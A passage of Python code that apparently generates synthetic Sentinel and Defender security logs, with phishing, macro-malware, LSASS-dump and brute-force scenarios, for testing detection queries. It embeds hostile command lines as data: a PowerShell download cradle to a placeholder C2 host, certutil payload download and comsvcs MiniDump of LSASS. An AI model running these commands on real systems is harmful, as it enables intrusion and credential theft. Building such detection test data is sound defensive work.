        "ProcessingEndTime": t - rng.randint(5, 90) * TICKS - rng.randint(0, TICKS),
        "Entities": ents.json() if ents else "[]",
        "ExtendedLinks": jtext(links) if links else (jtext([{"Href": link, "Category": None, "Label": "Alert details",
                                                               "Type": "webLink"}]) if product == ASC else ""),
        "ExtendedProperties": jtext(props), "IsIncident": False,
        "ProductComponentName": component if product != ASC else
        ("Storage" if "Microsoft.Storage" in resource_id else "Servers" if "virtualMachines" in resource_id else "Arm"),
        "ProductName": product, "ProviderName": provider,
        "RemediationSteps": jtext(list(remediation)) if remediation else "",
        "ResourceId": resource_id, "SourceComputerId": rng.guid() if product == ASC and resource_id.find("virtualMachines") > 0 else "",
        "Status": status, "SubTechniques": jtext(list(subtechniques)) if subtechniques else "",
        "SystemAlertId": sid, "Tactics": ", ".join(tactics), "Techniques": jtext(list(techniques)) if techniques else "",
        "VendorName": "Microsoft", "VendorOriginalId": vendor_id, "AlertLink": link,
        "WorkspaceResourceGroup": w.workspace_rg, "WorkspaceSubscriptionId": w.subscription,
    }
    if add:
        w.rows["SecurityAlert"].append(row)
    return row


def update_alert(w: World, rng: Rng, a: dict, t: int, status: str) -> dict:
    """A status change: Sentinel appends a new row with the same SystemAlertId."""
    row = dict(a, TimeGenerated=t, Status=status, ProcessingEndTime=t - rng.randint(5, 60) * TICKS)
    w.rows["SecurityAlert"].append(row)
    return row


ANALYSTS = (9, 13)  # Jonas Berg, Noah Schmidt


def make_incident(w: World, rng: Rng, provider: str, alerts: list[dict], title: str | None = None,
                  severity: str | None = None, *, steps=("New", "Active", "Closed"), delays=None,
                  classification=("TruePositive", "SuspiciousActivity"), comment: str = "",
                  labels=(), rule_ids=(), tasks=(), created: int | None = None) -> list[dict]:
    """Rows of one incident: one per update (New, Active, Closed...)."""
    sev_order = ["Informational", "Low", "Medium", "High"]
    severity = severity or max((a["AlertSeverity"] for a in alerts), key=sev_order.index)
    title = title or alerts[0]["AlertName"]
    t0 = created if created is not None else w.fix(max(a["TimeGenerated"] for a in alerts) + rng.randint(60, 400) * TICKS + rng.randint(0, TICKS))
    w.incident_number += 1
    number = w.incident_number
    name = rng.guid()
    if provider == "Microsoft 365 Defender":
        w.m365_incident_id += rng.randint(1, 9)
        pid = str(w.m365_incident_id)
        extra = {"providerIncidentUrl": f"https://security.microsoft.com/incidents/{pid}?tid={w.tenant}"}
    else:
        pid, extra = str(number), {}
    analyst = w.users[rng.choice(ANALYSTS)]
    owner_none = {"objectId": None, "email": None, "assignedTo": None, "userPrincipalName": None}
    owner = {"objectId": analyst.oid, "email": analyst.upn, "assignedTo": analyst.display, "userPrincipalName": analyst.upn}
    tactics = sorted({x.strip() for a in alerts for x in a["Tactics"].split(",") if x.strip() and x.strip() != "Unknown"})
    techniques = sorted({x for a in alerts if a["Techniques"] for x in json.loads(a["Techniques"])})
    data = {"alertsCount": len(alerts), "bookmarksCount": 0, "commentsCount": 1 if comment else 0,
            "alertProductNames": sorted({a["ProductName"] for a in alerts}), "tactics": tactics,
            "techniques": techniques, **extra}
    delays = delays or [0] + [rng.randint(20, 240) * MINUTE + rng.randint(0, MINUTE) for _ in steps[1:]]
    rows, t = [], t0
    first_mod = None
    for i, (status, d) in enumerate(zip(steps, delays)):
        t = w.fix(t + d) if i else t0
        if t >= w.now:
            break
        if i == 1:
            first_mod = t
        closed = status == "Closed"
        who = ("Microsoft 365 Defender" if provider == "Microsoft 365 Defender" else "Incident created from alert") if i == 0 \
            else (analyst.upn if status != "Closed" or provider != "Microsoft 365 Defender" else "Microsoft 365 Defender - alert update")
        rows.append({
            "TimeGenerated": t, "Type": "SecurityIncident", "TenantId": w.tenant, "SourceSystem": "Azure",
            "IncidentName": name, "IncidentNumber": number, "Title": title,
            "Description": alerts[0]["Description"], "Severity": severity, "Status": status,
            "ProviderName": provider, "ProviderIncidentId": pid,
            "IncidentUrl": (f"https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident{w.workspace_id}"
                            f"/providers/Microsoft.SecurityInsights/Incidents/{name}"),
            "AlertIds": [a["SystemAlertId"] for a in alerts], "BookmarkIds": [],
            "Comments": [{"message": comment, "createdTimeUtc": fmt_dt(t), "author": {"name": analyst.display, "userPrincipalName": analyst.upn}}] if comment and closed else [],
            "Labels": [{"labelName": l, "labelType": "User"} for l in labels],
            "Tasks": [{"title": x, "status": "Completed" if closed else "New"} for x in tasks],
            "RelatedAnalyticRuleIds": list(rule_ids),
            "Owner": owner if i > 0 else owner_none,
            "AdditionalData": data,
            "Classification": classification[0] if closed else "",
            "ClassificationReason": classification[1] if closed else "",
            "ClassificationComment": comment if closed else "",
            "ClosedTime": t if closed else None, "CreatedTime": t0,
            "FirstActivityTime": min(a["StartTime"] for a in alerts),
            "LastActivityTime": max(a["EndTime"] for a in alerts),
            "FirstModifiedTime": first_mod, "LastModifiedTime": t,
            "ModifiedBy": who,
        })
    w.rows["SecurityIncident"].extend(rows)
    return rows


# ---------------------------------------------------------------------------
# scenarios: correlated rows across tables that detection queries look for


def add(w: World, table: str, row: dict) -> dict:
    w.rows[table].append(row)
    return row


def add_msg(w: World, rng: Rng, m: dict) -> None:
    w.messages.append(m)
    for table, rows in message_rows(w, rng, m).items():
        w.rows[table].extend(rows)


def dpe(w: World, rng: Rng, dev: Device, t: int, parent: Proc, child: Proc) -> dict:
    row = dev_row(w, "DeviceProcessEvents", dev, t)
    row.update(initiating(parent))
    row.update(subject(child))
    row["ActionType"] = "ProcessCreated"
    return add(w, "DeviceProcessEvents", row)


def minute_floor(t: int) -> int:
    return t - t % MINUTE


def jitter(rng: Rng, t: int, seconds: int = 59) -> int:
    return t + rng.randint(0, seconds) * TICKS + rng.randint(0, TICKS - 1)


def scen_phish_a(w: World, rng: Rng) -> None:
    """Phish with a credential-harvesting URL, one click, then Phish ZAP."""
    t = w.fix(jitter(rng, day_floor(w.now - 11 * DAY) + 9 * HOUR + 12 * MINUTE))
    rc = [w.users[i] for i in (2, 4, 10, 14)]
    url = f"https://{PHISH_DOMAIN}/owa/auth/logon.aspx?replaceCurrent=1&u={rng.hexs(24)}"
    m = new_message(w, rng, t, "partner", sender=f"it-support@{PHISH_DOMAIN}", sender_name="Contoso IT Support",
                    mail_from=f"it-support@{PHISH_DOMAIN}", sender_ip="203.0.113.90", sender_ip6="",
                    subject="Action required: your password expires today", rcpts=[recipient(u) for u in rc],
                    imid=f"<{rng.hexs(20)}@{PHISH_DOMAIN}>", urls=[(url, "Body")], attachments=[],
                    threat="Phish", detect=jtext({"Phish": ["URL detonation reputation"]}),
                    confidence=jtext({"Phish": "Normal", "Spam": None}), connectors="", lang="en",
                    auth={"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "fail"},
                    extra={"IsFirstContact": True}, bcl=1)
    zt = t + 2 * HOUR + 47 * MINUTE
    for u in rc:
        zap(m, u.upn, jitter(rng, zt, 90), "Phish ZAP")
    add_msg(w, rng, m)
    w.phish_a = m
    # Elena clicks before the ZAP
    dev, u = w.dev["lt-sales-221"], w.users[4]
    tc = jitter(rng, t + 38 * MINUTE)
    outl = proc(w, rng, dev, "OUTLOOK.EXE", q(w.exe["OUTLOOK.EXE"]["path"]), u, t - 3 * HOUR, parent_name="explorer.exe")
    ev = dev_row(w, "DeviceEvents", dev, tc)
    ev.update(initiating(outl))
    ev.update({"ActionType": "BrowserLaunchedToOpenUrl", "RemoteUrl": url})
    add(w, "DeviceEvents", ev)
    edge = proc(w, rng, dev, "msedge.exe", q(w.exe["msedge.exe"]["path"]) + f" --single-argument {url}", u, tc + 2 * TICKS, outl)
    dpe(w, rng, dev, tc + 2 * TICKS, outl, edge)
    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, tc + 3 * TICKS, edge, "ConnectionSuccess", PHISH_IP, 443, PHISH_DOMAIN))
    e = Ents()
    e.mailbox(u)
    e.mail(m, u.upn)
    e.url(url)
    e.ip("203.0.113.90")
    a1 = make_alert(w, rng, OATP, "A potentially malicious URL click was detected", w.fix(tc + 4 * MINUTE), "High",
                    ents=e, tactics=("InitialAccess",), techniques=("T1566",), subtechniques=("T1566.002",),
                    compromised=u.upn, desc=f"{u.display} clicked a URL that was later found to be malicious.",
                    ext={"Category": "ThreatManagement", "Detector": "UrlClickVerdict"})
    e = Ents()
    for x in rc:
        e.mailbox(x)
    e.url(url)
    a2 = make_alert(w, rng, OATP, "Email messages containing malicious URL removed after delivery", w.fix(zt + 6 * MINUTE),
                    "Informational", ents=e, tactics=("InitialAccess",), techniques=("T1566",),
                    desc="Emails with a malicious URL that were delivered and later removed (ZAP).",
                    ext={"Category": "ThreatManagement", "Zapped messages": str(len(rc))})
    make_incident(w, rng, "Microsoft 365 Defender", [a1, a2],
                  "Phishing campaign with a malicious URL click involving one user",
                  comment="Password reset for elena.petrova; sign-ins reviewed, no MFA bypass.", labels=("Phishing",))


def scen_phish_b(w: World, rng: Rng) -> None:
    """A second phish wave: ZAP fails for one mailbox, an admin removes it."""
    t = w.fix(jitter(rng, day_floor(w.now - 3 * DAY) + 10 * HOUR + 4 * MINUTE))
    rc = [w.users[i] for i in (0, 1, 10, 12, 8)]
    url = f"https://{PHISH_DOMAIN2}/sites/finance/Shared%20Documents/Payroll.aspx?id={rng.hexs(16)}"
    m = new_message(w, rng, t, "partner", sender=f"docs@{PHISH_DOMAIN2}", sender_name="Ben Okafor via SharePoint",
                    mail_from=f"bounce@{PHISH_DOMAIN2}", sender_ip=PHISH_IP2, sender_ip6="",
                    subject='Ben Okafor shared "Q4 Payroll adjustments" with you', rcpts=[recipient(u) for u in rc],
                    imid=f"<{rng.hexs(20)}@{PHISH_DOMAIN2}>",
                    urls=[(url, "Body"), (f"https://{PHISH_DOMAIN2}/_layouts/15/images/docicon.png", "Body")],
                    attachments=[], threat="Phish", detect=jtext({"Phish": ["URL malicious reputation", "Impersonation brand"]}),
                    confidence=jtext({"Phish": "High", "Spam": None}), lang="en",
                    auth={"SPF": "pass", "DKIM": "pass", "DMARC": "none", "CompAuth": "softpass"}, bcl=0)
    zt = t + HOUR + 10 * MINUTE
    for i, u in enumerate(rc):
        zap(m, u.upn, jitter(rng, zt, 60), "Phish ZAP", result="Error" if i == 3 else "Success")
    zap(m, rc[3].upn, jitter(rng, zt + 3 * HOUR + 12 * MINUTE), "Manual remediation")
    add_msg(w, rng, m)
    w.phish_b = m
    e = Ents()
    for x in rc:
        e.mailbox(x)
    e.url(url)
    e.ip(PHISH_IP2)
    a = make_alert(w, rng, OATP, "Email messages containing malicious URL removed after delivery", w.fix(zt + 5 * MINUTE),
                   "Informational", ents=e, tactics=("InitialAccess",), techniques=("T1566",),
                   desc="Emails with a malicious URL that were delivered and later removed (ZAP).",
                   ext={"Category": "ThreatManagement", "Zapped messages": str(len(rc) - 1)})
    make_incident(w, rng, "Microsoft 365 Defender", [a], "Email messages containing malicious URL removed after delivery involving 5 users",
                  severity="Medium", comment="ZAP failed for maya.cohen; removed manually from Threat Explorer.",
                  labels=("Phishing",))


ENC_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://{d}/k/update.ps1')"


def office_to_powershell(w: World, rng: Rng, dev: Device, u: Account, t: int, doc: str, app: str, flag: str) -> tuple[Proc, int]:
    """Outlook saves an attachment, Office opens it, Office starts encoded PowerShell."""
    folder = f"C:\\Users\\{u.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{rng.hexs(8, True)}"
    outl = proc(w, rng, dev, "OUTLOOK.EXE", q(w.exe["OUTLOOK.EXE"]["path"]), u, t - 2 * HOUR, parent_name="explorer.exe")
    add(w, "DeviceFileEvents", file_row(w, dev, t, outl, "FileCreated", folder, doc, 48128 + rng.randint(0, 20000)))
    t2 = t + 40 * TICKS + rng.randint(0, TICKS)
    verb = "/n" if app == "WINWORD.EXE" else ""
    office = proc(w, rng, dev, app, q(w.exe[app]["path"]) + f' {verb} "{folder}\\{doc}" /o ""'.replace("  ", " "), u, t2, outl)
    dpe(w, rng, dev, t2, outl, office)
    il = dev_row(w, "DeviceImageLoadEvents", dev, t2 + 25 * TICKS)
    il.update(initiating(office))
    vbe = DLLS[7][0]
    md5, sha1, sha256 = hashes(vbe)
    il.update({"ActionType": "ImageLoaded", "FileName": "VBE7.DLL", "FolderPath": vbe, "FileSize": 3110912,
               "MD5": md5, "SHA1": sha1, "SHA256": sha256})
    add(w, "DeviceImageLoadEvents", il)
    t4 = t2 + 31 * TICKS + rng.randint(0, TICKS)
    ps = proc(w, rng, dev, "powershell.exe", f"powershell.exe -nop -w hidden {flag} {b64_ps(ENC_SCRIPT.format(d=C2_DOMAIN))}", u, t4, office)
    dpe(w, rng, dev, t4, office, ps)
    ev = dev_row(w, "DeviceEvents", dev, t4 + 2 * TICKS)
    ev.update(initiating(ps))
    ev.update({"ActionType": "PowerShellCommand", "AdditionalFields": {"Command": "Invoke-Expression"}})
    add(w, "DeviceEvents", ev)
    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, t4 + 3 * TICKS, ps, "ConnectionSuccess", C2_IP, 80, C2_DOMAIN))
    return ps, t4


def scen_macro_malware(w: World, rng: Rng) -> None:
    """Invoice .docm -> WINWORD -> powershell -enc -> C2, Run key, AV, Malware ZAP."""
    dev, u = w.dev["ws-fin-042"], w.users[0]
    t = w.fix(jitter(rng, day_floor(w.now - 10 * DAY) + 10 * HOUR + 5 * MINUTE))
    doc = "Invoice_4471.docm"
    w.macro_t = t
    m = new_message(w, rng, t, "partner", sender=f"accounts@{MALWARE_SENDER_DOMAIN}", sender_name="Fabrikam Accounts",
                    mail_from=f"accounts@{MALWARE_SENDER_DOMAIN}", sender_ip="198.51.100.61", sender_ip6="",
                    subject="Overdue invoice INV-4471", rcpts=[recipient(u)], imid=f"<{rng.hexs(20)}@{MALWARE_SENDER_DOMAIN}>",
                    urls=[], attachments=[(doc, 48128, "Malware", "TrojanDownloader:O97M/Donoff.SS!MTB",
                                           jtext({"Malware": ["File detonation"]}))],
                    threat="Malware", threat_names="TrojanDownloader:O97M/Donoff.SS!MTB",
                    detect=jtext({"Malware": ["File detonation"]}), confidence=jtext({"Malware": "High"}), bcl=0)
    zt = t + 2 * HOUR + 3 * MINUTE
    zap(m, u.upn, jitter(rng, zt), "Malware ZAP")
    add_msg(w, rng, m)
    ps, t4 = office_to_powershell(w, rng, dev, u, t + 14 * MINUTE, doc, "WINWORD.EXE", "-enc")
    rr = dev_row(w, "DeviceRegistryEvents", dev, t4 + 9 * TICKS)
    rr.update(initiating(ps))
    run = f"powershell.exe -w hidden -EncodedCommand {b64_ps(ENC_SCRIPT.format(d=C2_DOMAIN))}"
    rr.update({"ActionType": "RegistryValueSet", "RegistryKey": f"HKEY_CURRENT_USER\\{u.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
               "RegistryValueName": "OfficeUpdate", "RegistryValueType": "String", "RegistryValueData": run,
               "PreviousRegistryKey": "", "PreviousRegistryValueName": "", "PreviousRegistryValueData": ""})
    add(w, "DeviceRegistryEvents", rr)
    av = dev_row(w, "DeviceEvents", dev, t4 + 20 * TICKS)
    mp = proc(w, rng, dev, "MsMpEng.exe", q(w.exe["MsMpEng.exe"]["path"]), w.system, t - 3 * DAY, parent_name="services.exe")
    av.update(initiating(mp))
    md5, sha1, sha256 = hashes(doc)
    av.update({"ActionType": "AntivirusDetection", "FileName": doc, "FolderPath": f"C:\\Users\\{u.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{doc}",
               "SHA1": sha1, "SHA256": sha256, "MD5": md5, "FileSize": 48128,
               "AdditionalFields": {"ThreatName": "TrojanDownloader:O97M/Donoff.SS!MTB", "WasExecutingWhileDetected": True,
                                    "WasRemediated": True, "ReportSource": "Realtime", "Action": "quarantine", "Category": "Trojan"}})
    add(w, "DeviceEvents", av)
    e = Ents()
    h, a = e.host(dev), e.account(u)
    e.process(ps, h, a)
    e.ip(C2_IP)
    e.url(f"http://{C2_DOMAIN}/k/update.ps1")
    alerts = [make_alert(w, rng, MDATP, "Suspicious PowerShell command line", w.fix(t4 + 4 * MINUTE), "Medium", ents=e,
                         tactics=("Execution",), techniques=("T1059",), subtechniques=("T1059.001",), compromised=dev.name,
                         desc="A suspicious PowerShell command line was found: an encoded command started by Microsoft Word.",
                         remediation=["Isolate the device.", "Collect an investigation package.", "Reset the user's credentials."])]
    e = Ents()
    e.host(dev)
    e.account(u)
    e.file(doc, f"C:\\Users\\{u.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook", sha1, sha256)
    e.add({"Name": "TrojanDownloader:O97M/Donoff.SS!MTB", "Category": "Trojan", "Type": "malware"})
    alerts.append(make_alert(w, rng, MDATP, "'Donoff' malware was detected", w.fix(t4 + 3 * MINUTE), "High", ents=e,
                             tactics=("Execution", "Persistence"), techniques=("T1204", "T1547"),
                             subtechniques=("T1204.002", "T1547.001"), compromised=dev.name, alert_type="WindowsDefenderAv",
                             desc="Malware was detected and remediated: TrojanDownloader:O97M/Donoff.SS!MTB."))
    e = Ents()
    e.mailbox(u)
    e.mail(m, u.upn)
    e.file(doc, "", "", sha256)
    alerts.append(make_alert(w, rng, OATP, "Email messages containing malware removed after delivery", w.fix(zt + 5 * MINUTE),
                             "Informational", ents=e, tactics=("InitialAccess",), techniques=("T1566",),
                             subtechniques=("T1566.001",), ext={"Category": "ThreatManagement"}))
    make_incident(w, rng, "Microsoft 365 Defender", alerts,
                  "Multi-stage incident involving Initial access & Execution on one endpoint reported by multiple sources",
                  comment="Device isolated and reimaged; Run key removed; C2 domain blocked.", tasks=("Isolate device", "Reset password"))
    e = Ents()
    e.host(dev)
    e.add({"DomainName": C2_DOMAIN, "Type": "dns"})
    e.ip(C2_IP)
    sa = make_alert(w, rng, ASI, "Known malicious domain contacted (Microsoft Threat Intelligence)", w.fix(t4 + 17 * MINUTE), "Medium",
                    ents=e, tactics=("CommandAndControl",), techniques=("T1071",), compromised=dev.name,
                    desc="A device contacted a domain in the Microsoft threat intelligence feed.",
                    ext={"Analytic Rule Name": "TI map Domain entity to DeviceNetworkEvents", "Query Period": "14.00:00:00",
                         "Query Frequency": "01:00:00", "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
                         "Search Query Results Overall Count": "1", "Data Sources": jtext(["DeviceNetworkEvents", "ThreatIntelligenceIndicator"])})
    make_incident(w, rng, "Azure Sentinel", [sa], rule_ids=[w.rule_ti], comment="Same activity as the Microsoft 365 Defender incident.")


def scen_excel_today(w: World, rng: Rng) -> None:
    """Within the last day: an undetected .xlsm -> EXCEL -> powershell -EncodedCommand (incident still open)."""
    dev, u = w.dev["ws-fin-017"], w.users[1]
    t = minute_floor(w.now - 6 * HOUR - 40 * MINUTE) + rng.randint(0, 59) * TICKS + rng.randint(0, TICKS)
    w.excel_t = t
    doc = "Remittance_advice_88213.xlsm"
    m = new_message(w, rng, t, "partner", sender=f"remittance@{MALWARE_SENDER_DOMAIN}", sender_name="Fabrikam Remittance",
                    mail_from=f"remittance@{MALWARE_SENDER_DOMAIN}", sender_ip="198.51.100.61", sender_ip6="",
                    subject="Remittance advice 88213", rcpts=[recipient(u)], imid=f"<{rng.hexs(20)}@{MALWARE_SENDER_DOMAIN}>",
                    urls=[], attachments=[(doc, 61952, "", "", "")], bcl=0)
    add_msg(w, rng, m)
    ps, t4 = office_to_powershell(w, rng, dev, u, t + 20 * MINUTE, doc, "EXCEL.EXE", "-EncodedCommand")
    e = Ents()
    h, a = e.host(dev), e.account(u)
    e.process(ps, h, a)
    e.ip(C2_IP)
    al = make_alert(w, rng, MDATP, "Suspicious PowerShell command line", w.fix(t4 + 5 * MINUTE), "Medium", ents=e,
                    tactics=("Execution",), techniques=("T1059",), subtechniques=("T1059.001",), compromised=dev.name,
                    desc="A suspicious PowerShell command line was found: an encoded command started by Microsoft Excel.")
    make_incident(w, rng, "Microsoft 365 Defender", [al], "Suspicious PowerShell command line on one endpoint",
                  steps=("New", "Active"), delays=[0, 25 * MINUTE])


def lsass_dump(w: World, rng: Rng, dev: Device, u: Account, t: int, parent: Proc) -> tuple[Proc, list]:
    lsass_pid = 700 + 4 * rng.randint(0, 60)
    rd = proc(w, rng, dev, "rundll32.exe", f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} C:\\Windows\\Temp\\lsass.dmp full",
              u, t, parent, elevated=True)
    dpe(w, rng, dev, t, parent, rd)
    il = dev_row(w, "DeviceImageLoadEvents", dev, t + 1 * TICKS + rng.randint(0, TICKS))
    il.update(initiating(rd))
    md5, sha1, sha256 = hashes("comsvcs.dll")
    il.update({"ActionType": "ImageLoaded", "FileName": "comsvcs.dll", "FolderPath": r"C:\Windows\System32\comsvcs.dll",
               "FileSize": 1320448, "MD5": md5, "SHA1": sha1, "SHA256": sha256})
    add(w, "DeviceImageLoadEvents", il)
    op = dev_row(w, "DeviceEvents", dev, t + 2 * TICKS + rng.randint(0, TICKS))
    op.update(initiating(rd))
    ls = w.exe["lsass.exe"]
    op.update({"ActionType": "OpenProcessApiCall", "FileName": "lsass.exe", "FolderPath": ls["path"], "ProcessId": lsass_pid,
               "ProcessCreationTime": w.fix(t - 3 * DAY), "SHA1": ls["sha1"], "SHA256": ls["sha256"], "MD5": ls["md5"],
               "ProcessCommandLine": "lsass.exe", "AdditionalFields": {"DesiredAccess": 2097151}})
    add(w, "DeviceEvents", op)
    add(w, "DeviceFileEvents", file_row(w, dev, t + 4 * TICKS, rd, "FileCreated", r"C:\Windows\Temp", "lsass.dmp", 52_428_800 + rng.randint(0, 9_000_000)))
    return rd, [lsass_pid]


def scen_certutil_lsass(w: World, rng: Rng) -> None:
    """certutil -urlcache download, the payload runs, then comsvcs.dll MiniDump of LSASS."""
    dev, u = w.dev["ws-eng-103"], w.users[3]
    t = w.fix(jitter(rng, day_floor(w.now - 4 * DAY) + 14 * HOUR + 20 * MINUTE))
    w.certutil_t = t
    ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", u, t - 5 * HOUR, parent_name="userinit.exe")
    cmd = proc(w, rng, dev, "cmd.exe", r'"C:\Windows\system32\cmd.exe" ', u, t - 3 * MINUTE, ex, elevated=True)
    url = f"http://{PAYLOAD_IP}/files/svchost.exe"
    cu = proc(w, rng, dev, "certutil.exe", f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\svchost.exe", u, t, cmd, elevated=True)
    dpe(w, rng, dev, t, cmd, cu)
    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, t + 1 * TICKS, cu, "ConnectionSuccess", PAYLOAD_IP, 80, ""))
    dropped = w.exe["svchost.exe#dropped"]
    fr = file_row(w, dev, t + 2 * TICKS, cu, "FileCreated", r"C:\Users\Public", "svchost.exe", dropped["size"])
    fr.update({"FileOriginUrl": url, "FileOriginIP": PAYLOAD_IP, "SHA1": dropped["sha1"], "SHA256": dropped["sha256"], "MD5": dropped["md5"]})
    add(w, "DeviceFileEvents", fr)
    t2 = t + 50 * TICKS + rng.randint(0, TICKS)
    bad = proc(w, rng, dev, "svchost.exe#dropped", f"C:\\Users\\Public\\svchost.exe -connect {PAYLOAD_IP}:443", u, t2, cmd, elevated=True)
    dpe(w, rng, dev, t2, cmd, bad)
    add(w, "DeviceNetworkEvents", net_row(w, rng, dev, t2 + 2 * TICKS, bad, "ConnectionSuccess", PAYLOAD_IP, 443, ""))
    add(w, "DeviceFileCertificateInfo", cert_row(w, rng, dev, t2 + 5 * MINUTE, "svchost.exe#dropped"))
    t3 = t + 25 * MINUTE + rng.randint(0, 59) * TICKS
    rd, _ = lsass_dump(w, rng, dev, u, t3, cmd)
    e = Ents()
    h, a = e.host(dev), e.account(u)
    e.process(cu, h, a)
    e.url(url)
    e.ip(PAYLOAD_IP)
    e.file("svchost.exe", r"C:\Users\Public", dropped["sha1"], dropped["sha256"])
    al = [make_alert(w, rng, MDATP, "Use of living-off-the-land binary to download a file", w.fix(t + 3 * MINUTE), "Medium", ents=e,
                     tactics=("CommandAndControl", "DefenseEvasion"), techniques=("T1105", "T1218"), compromised=dev.name,
                     desc="certutil.exe was used to download a file from a remote address.")]
    e = Ents()
    h, a = e.host(dev), e.account(u)
    e.process(rd, h, a)
    e.file("lsass.dmp", r"C:\Windows\Temp")
    for name, sev in (("Process memory dump", "High"), ("Sensitive credential memory read", "High")):
        al.append(make_alert(w, rng, MDATP, name, w.fix(t3 + rng.randint(2, 6) * MINUTE), sev, ents=e,
                             tactics=("CredentialAccess",), techniques=("T1003",), subtechniques=("T1003.001",),
                             compromised=dev.name, desc="The LSASS process memory was dumped with comsvcs.dll MiniDump."))
    make_incident(w, rng, "Microsoft 365 Defender", al,
                  "Multi-stage incident involving Execution & Credential access on one endpoint",
                  comment="Attacker tooling removed; account dkowalski reset; krbtgt rotation scheduled.")


def scen_admin_dump(w: World, rng: Rng) -> None:
    """An administrator dumps LSASS on the SQL server: a benign positive."""
    dev = w.dev["srv-sql-03"]
    t = w.fix(jitter(rng, day_floor(w.now - 13 * DAY) + 15 * HOUR + 2 * MINUTE))
    ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", w.admin, t - HOUR, parent_name="userinit.exe")
    cmd = proc(w, rng, dev, "cmd.exe", r'"C:\Windows\system32\cmd.exe" ', w.admin, t - 4 * MINUTE, ex, elevated=True)
    rd, _ = lsass_dump(w, rng, dev, w.admin, t, cmd)
    e = Ents()
    h, a = e.host(dev), e.account(w.admin)
    e.process(rd, h, a)
    al = make_alert(w, rng, MDATP, "Process memory dump", w.fix(t + 4 * MINUTE), "High", ents=e, tactics=("CredentialAccess",),
                    techniques=("T1003",), subtechniques=("T1003.001",), compromised=dev.name,
                    desc="The LSASS process memory was dumped with comsvcs.dll MiniDump.")
    make_incident(w, rng, "Microsoft 365 Defender", [al], classification=("BenignPositive", "SuspiciousButExpected"),
                  comment="Admin troubleshooting under change CHG0041273.")


def brute_force(w: World, rng: Rng, dev: Device, t: int, src: str, names: list[str], n: int, linux: bool) -> int:
    """n failed logons from src over ~6 minutes; returns the time after the burst."""
    for i in range(n):
        name = names[i % len(names)] if i % 3 else names[0]
        known = name in ("administrator", "svc-backup", "root")
        acct = Account(name, dev.short if linux or name == "administrator" else "contoso", "" if linux else
                       (f"{w.domain_sid}-2117" if name == "svc-backup" else (f"S-1-5-21-3623811015-3361044348-30300820-500" if name == "administrator" else "")))
        ti = t + i * (6 * MINUTE // n) + rng.randint(0, 5 * TICKS)
        add(w, "DeviceLogonEvents", logon_row(w, rng, dev, ti, acct, "LogonFailed", "Network", "" if linux else "NTLM",
                                              src, "" if linux else "kali", failure="InvalidUserNameOrPassword" if known else "UnknownUser"))
    return t + 6 * MINUTE + 20 * TICKS


def scen_rdp_brute_force(w: World, rng: Rng) -> None:
    """Brute force against the internet-facing RDS host, a success, discovery, then file encryption over SMB."""
    dev = w.dev["srv-rds-01"]
    t = w.fix(jitter(rng, day_floor(w.now - 2 * DAY) + 2 * HOUR + 13 * MINUTE))
    w.rdp_t = t
    te = brute_force(w, rng, dev, t, BRUTE_IP, ["administrator", "admin", "test", "backup", "svc-backup", "scanner"], 36, False)
    add(w, "DeviceLogonEvents", logon_row(w, rng, dev, te, w.svc_backup, "LogonSuccess", "Network", "NTLM", BRUTE_IP, "kali"))
    add(w, "DeviceLogonEvents", logon_row(w, rng, dev, te + 4 * TICKS, w.svc_backup, "LogonSuccess", "RemoteInteractive", "Negotiate", BRUTE_IP, "kali"))
    ex = proc(w, rng, dev, "explorer.exe", r"C:\WINDOWS\Explorer.EXE", w.svc_backup, te + 30 * TICKS, parent_name="userinit.exe")
    cmd = proc(w, rng, dev, "cmd.exe", r'"C:\Windows\system32\cmd.exe" ', w.svc_backup, te + 2 * MINUTE, ex)
    dpe(w, rng, dev, cmd.created, ex, cmd)
    tt = cmd.created
    procs = []
    for exe, line in (("whoami.exe", "whoami  /all"), ("net.exe", 'net  group "Domain Admins" /domain'),
                      ("net.exe", "net  view \\\\srv-file-02"), ("ipconfig.exe", "ipconfig  /all")):
        tt += rng.randint(8, 40) * TICKS + rng.randint(0, TICKS)
        p = proc(w, rng, dev, exe, line, w.svc_backup, tt, cmd)
        dpe(w, rng, dev, tt, cmd, p)
        procs.append(p)
    # the encryption, seven hours later, over SMB from the RDS host
    fs = w.dev["srv-file-02"]
    tr = w.fix(te + 7 * HOUR + 3 * MINUTE)
    sysp = proc(w, rng, fs, "System", "", w.system, tr - 9 * DAY, parent_name="")
    files = []
    for i in range(110):
        folder = rng.choice(["Invoices", "Payroll", "Reports\\2025", "Vendors", "Budget"])
        base = rng.choice(["Invoice", "Payroll", "Report", "Vendor", "Budget", "Statement"]) + f"_{2024 + i % 2}_{i:04d}"
        files.append((f"D:\\Shares\\Finance\\{folder}", base + rng.choice([".xlsx", ".docx", ".pdf"])))
    for i, (folder, name) in enumerate(files[:10]):
        r = file_row(w, fs, tr + i * 3 * TICKS + rng.randint(0, TICKS), sysp, "FileRenamed", folder, name + ".locked", rng.randint(30000, 800000))
        r.update({"PreviousFileName": name, "PreviousFolderPath": f"{folder}\\{name}", "RequestAccountName": "svc-backup",
                  "RequestAccountDomain": "CONTOSO", "RequestAccountSid": w.svc_backup.sid, "RequestProtocol": "SMB",
                  "RequestSourceIP": dev.ip, "RequestSourcePort": rng.randint(49152, 65535), "ShareName": "Finance",
                  "SensitivityLabel": "General", "IsAzureInfoProtectionApplied": False})
        add(w, "DeviceFileEvents", r)
    note = file_row(w, fs, tr + 40 * TICKS, sysp, "FileCreated", r"D:\Shares\Finance", "README_RESTORE_FILES.txt", 1722)
    note.update({"RequestAccountName": "svc-backup", "RequestAccountDomain": "CONTOSO", "RequestAccountSid": w.svc_backup.sid,
